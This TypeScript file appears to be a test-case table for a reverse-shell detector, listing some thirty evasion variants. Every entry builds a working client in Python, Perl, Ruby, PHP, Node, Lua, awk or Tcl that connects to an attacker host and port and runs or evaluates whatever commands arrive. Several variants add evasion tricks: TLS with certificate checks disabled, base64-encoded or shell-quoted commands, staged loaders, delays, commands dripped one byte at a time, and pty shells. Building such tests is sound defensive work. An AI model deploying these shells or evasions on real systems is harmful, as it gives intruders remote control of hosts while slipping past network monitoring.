// Clients in every language at hand: a connection, and each command in a short child or none.
import { bothWays, type Evasion, evasion, fromFile } from "./row.ts";

const HOPE_LOOP = "no process is a shell for longer than one command";
const HOPE_CODED = "what is executed are not the bytes that came";
const HELLO = "hello from this little host, ready to serve you";

function python(lines: string): string {
  return `import base64, os, socket, subprocess, sys\n${lines}`;
}
const connection = (place: { attacker: string; port: number }): string =>
  `s = socket.create_connection(("${place.attacker}", ${place.port}))\n`;
const base64Line = (place: { marker: string; effect: string }) => ({
  text: `${Buffer.from(`echo ${place.marker}-$((6*7)); touch ${place.effect}`).toString("base64")}\n`,
});

export const LANGUAGES: readonly Evasion[] = [
  ...bothWays("python runs each line", HOPE_LOOP, "python3", "-c", (place) =>
    python(`${connection(place)}for line in s.makefile():\n    s.sendall(subprocess.getoutput(line).encode())`),
  ),
  ...bothWays(
    "python decodes each line before it runs it",
    HOPE_CODED,
    "python3",
    "-c",
    (place) =>
      python(
        `${connection(place)}for line in s.makefile():\n    s.sendall(subprocess.getoutput(base64.b64decode(line).decode()).encode())`,
      ),
    { first: base64Line },
  ),
  ...bothWays(
    "python greets with fifty bytes and decodes what it is sent",
    "a client that speaks first is a client",
    "python3",
    "-c",
    (place) =>
      python(
        `${connection(place)}s.sendall(b"${HELLO}\\n")\nfor line in s.makefile():\n    s.sendall(subprocess.getoutput(base64.b64decode(line).decode()).encode())`,
      ),
    { first: base64Line },
  ),
  ...bothWays(
    "python greets with fifty bytes and gives a shell pipes",
    "a client that speaks first is a client",
    "python3",
    "-c",
    (place) =>
      python(
        `${connection(place)}s.sendall(b"${HELLO}\\n")\np = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)\nif os.fork() == 0:\n    while True: s.sendall(os.read(p.stdout.fileno(), 4096))\nwhile True: os.write(p.stdin.fileno(), s.recv(4096))`,
      ),
  ),
  ...bothWays(
    "python executes code that it is sent, in itself",
    "nothing is started at all",
    "python3",
    "-c",
    (place) => python(`${connection(place)}for line in s.makefile():\n    exec(line, {"s": s, "os": os})`),
    {
      first: (place) => ({
        text: `s.sendall(b"${place.marker}-%d" % (6*7)); os.close(os.open("${place.effect}", os.O_CREAT))\n`,
      }),
    },
  ),
  ...bothWays(
    "perl evaluates each line, in itself",
    "nothing is started at all",
    "perl",
    "-e",
    (place) =>
      `use IO::Socket::INET; $s = IO::Socket::INET->new("${place.attacker}:${place.port}"); $s->autoflush; while (<$s>) { eval $_ }`,
    { first: (place) => ({ text: `print $s "${place.marker}-" . 6*7; open(F, ">", "${place.effect}");\n` }) },
  ),
  ...bothWays(
    "ruby evaluates each line, in itself",
    "nothing is started at all",
    "ruby",
    "-e",
    (place) =>
      `require "socket"; s = TCPSocket.new("${place.attacker}", ${place.port}); while line = s.gets; eval(line); end`,
    { first: (place) => ({ text: `s.puts "${place.marker}-#{6*7}"; File.write("${place.effect}", "")\n` }) },
  ),
  evasion(
    "php evaluates each line, in itself",
    "nothing is started at all",
    (place) =>
      `exec php -r '$s = fsockopen("${place.attacker}", ${place.port}); while (($line = fgets($s)) !== false) eval($line);'`,
    { first: (place) => ({ text: `fwrite($s, "${place.marker}-" . 6*7); touch("${place.effect}");\n` }) },
  ),
  ...bothWays(
    "node evaluates what it is sent, in itself",
    "nothing is started at all",
    "node",
    "-e",
    (place) =>
      `const s = require("net").connect(${place.port}, "${place.attacker}"); s.on("data", (d) => eval(String(d)));`,
    {
      first: (place) => ({
        text: `s.write("${place.marker}-" + 6*7); require("fs").writeFileSync("${place.effect}", "");\n`,
      }),
    },
  ),
  evasion(
    "ruby over TLS runs each line",
    "the bytes on the wire say nothing",
    (place) =>
      `exec ruby -ropenssl -rsocket -e 's = OpenSSL::SSL::SSLSocket.new(TCPSocket.new("${place.attacker}", ${place.port})); s.connect; while line = s.gets; s.write(IO.popen(line, &:read)); end'`,
    { transport: "tls" },
  ),
  evasion(
    "inline python over TLS gives a shell pipes",
    "the bytes on the wire say nothing",
    (place) =>
      `exec python3 -c 'import ssl, threading\n${python(`c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n${connection(place)}s = c.wrap_socket(s)\np = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)\ndef out():\n    while True: s.sendall(os.read(p.stdout.fileno(), 4096))\nthreading.Thread(target=out).start()\nwhile True: os.write(p.stdin.fileno(), s.recv(4096))`)}'`,
    { transport: "tls" },
  ),
  ...bothWays(
    "a stager reads a length and then code, which starts programs",
    "the first stage does nothing by itself",
    "python3",
    "-c",
    (place) => python(`${connection(place)}f = s.makefile("rb")\nexec(f.read(int(f.readline())))`),
    {
      first: (place) => {
        const code = `s.sendall(os.popen("echo ${place.marker}-$((6*7)); touch ${place.effect}").read().encode())`;
        return { text: `${code.length}\n${code}` };
      },
    },
  ),
  evasion(
    "python over TLS runs each line",
    "the bytes on the wire say nothing",
    (place) =>
      `exec python3 -c 'import ssl\n${python(`c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n${connection(place)}s = c.wrap_socket(s)\nfor line in s.makefile():\n    s.sendall(subprocess.getoutput(line).encode())`)}'`,
    { transport: "tls" },
  ),
  fromFile(
    "python over TLS gives a shell a terminal",
    "a program from a file, unreadable bytes, a terminal",
    "python3",
    (place) => `import pty, ssl, threading
${python(`c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n${connection(place)}s = c.wrap_socket(s)`)}
pid, master = pty.fork()
if pid == 0: os.execv("/bin/sh", ["sh"])
def out():
    while True: s.sendall(os.read(master, 4096))
threading.Thread(target=out).start()
while True: os.write(master, s.recv(4096))`,
    { transport: "tls" },
  ),
  ...bothWays(
    "asyncio runs each line",
    HOPE_LOOP,
    "python3",
    "-c",
    (place) => `import asyncio
async def main():
    r, w = await asyncio.open_connection("${place.attacker}", ${place.port})
    while line := await r.readline():
        p = await asyncio.create_subprocess_shell(line, stdout=-1, stderr=-2)
        w.write((await p.communicate())[0])
        await w.drain()
asyncio.run(main())`,
  ),
  ...bothWays(
    "perl runs each line",
    HOPE_LOOP,
    "perl",
    "-e",
    (place) =>
      `use IO::Socket::INET; $s = IO::Socket::INET->new("${place.attacker}:${place.port}"); while (<$s>) { print $s qx($_) }`,
  ),
  ...bothWays(
    "ruby runs each line",
    HOPE_LOOP,
    "ruby",
    "-e",
    (place) =>
      `require "socket"; s = TCPSocket.new("${place.attacker}", ${place.port}); while c = s.gets; s.write(IO.popen(c).read); end`,
  ),
  ...bothWays(
    "lua runs each line",
    HOPE_LOOP,
    "lua5.4",
    "-e",
    (place) =>
      `s = require("socket").tcp(); s:connect("${place.attacker}", ${place.port}); while true do c = s:receive(); if not c then break end; s:send(io.popen(c):read("a")) end`,
  ),
  ...bothWays(
    "node runs each line",
    HOPE_LOOP,
    "node",
    "-e",
    (place) =>
      `const s = require("net").connect(${place.port}, "${place.attacker}"); s.on("data", (d) => require("child_process").exec(d.toString(), (e, out) => s.write(out)));`,
  ),
  ...bothWays(
    "node gives a shell pipes",
    "node is the carrier",
    "node",
    "-e",
    (place) =>
      `const s = require("net").connect(${place.port}, "${place.attacker}"), p = require("child_process").spawn("sh"); s.pipe(p.stdin); p.stdout.pipe(s); p.stderr.pipe(s);`,
  ),
  evasion(
    "php runs each line",
    HOPE_LOOP,
    (place) =>
      `exec php -r '$s = fsockopen("${place.attacker}", ${place.port}); while ($l = fgets($s)) fwrite($s, shell_exec($l));'`,
  ),
  fromFile(
    "php from a file runs each line",
    HOPE_LOOP,
    "php",
    (place) =>
      `<?php $s = fsockopen("${place.attacker}", ${place.port}); while ($l = fgets($s)) fwrite($s, shell_exec($l));`,
  ),
  evasion(
    "awk runs each line",
    HOPE_LOOP,
    (place) =>
      `exec gawk 'BEGIN { s = "/inet/tcp/0/${place.attacker}/${place.port}"; while ((s |& getline c) > 0) { while ((c | getline r) > 0) print r |& s; close(c) } }'`,
  ),
  fromFile(
    "awk from a file runs each line",
    HOPE_LOOP,
    "gawk -f",
    (place) =>
      `BEGIN { s = "/inet/tcp/0/${place.attacker}/${place.port}"; while ((s |& getline c) > 0) { while ((c | getline r) > 0) print r |& s; close(c) } }`,
  ),
  fromFile(
    "tcl runs each line",
    HOPE_LOOP,
    "tclsh",
    (place) =>
      `set s [socket ${place.attacker} ${place.port}]; while {[gets $s c] >= 0} { puts $s [exec sh -c $c]; flush $s }`,
  ),
  evasion(
    "python waits before it obeys a first time",
    "who looks only at the beginning sees nothing",
    (place) =>
      `exec python3 -c '${python(`import time\n${connection(place)}time.sleep(1.5)\nfor line in s.makefile():\n    s.sendall(subprocess.getoutput(line).encode())`)}'`,
  ),
  evasion(
    "python shuts its way out and answers over a second connection",
    "each connection has one direction only",
    (place) =>
      `exec python3 -c '${python(`${connection(place)}s.shutdown(socket.SHUT_WR)\nfor line in s.makefile():\n    out = subprocess.getoutput(line)\n    socket.create_connection(("${place.attacker}", ${place.port})).sendall(out.encode())\n    break`)}'`,
  ),
  evasion(
    "the command comes one byte at a time",
    "no packet holds a whole command",
    (place) =>
      `exec python3 -c '${python(`${connection(place)}for line in s.makefile():\n    s.sendall(subprocess.getoutput(line).encode())`)}'`,
    { first: (place) => ({ text: `echo ${place.marker}-$((6*7)); touch ${place.effect}\n`, dripMs: 15 }) },
  ),
  evasion(
    "noise follows the command in a packet of its own",
    "what is remembered of the wire is the newest packet",
    (place) =>
      `exec python3 -c '${python(`import time\n${connection(place)}for line in s.makefile():\n    time.sleep(0.1)\n    s.sendall(subprocess.getoutput(line).encode())`)}'`,
    { first: (place) => ({ text: `echo ${place.marker}-$((6*7)); touch ${place.effect}\n`, noise: "true\n" }) },
  ),
  evasion(
    "the command is quoted in a way that only a shell undoes",
    "the words that are executed never stood in a packet",
    (place) =>
      `exec python3 -c '${python(`${connection(place)}import shlex\nfor line in s.makefile():\n    s.sendall(subprocess.run(shlex.split(line), capture_output=True).stdout)`)}'`,
    {
      first: (place) => ({
        text: `"s"h -'c' "ec"ho\\ ${place.marker}-'$((6*7));'\\ to"uc"h\\ ${place.effect}\n`,
      }),
    },
  ),
];
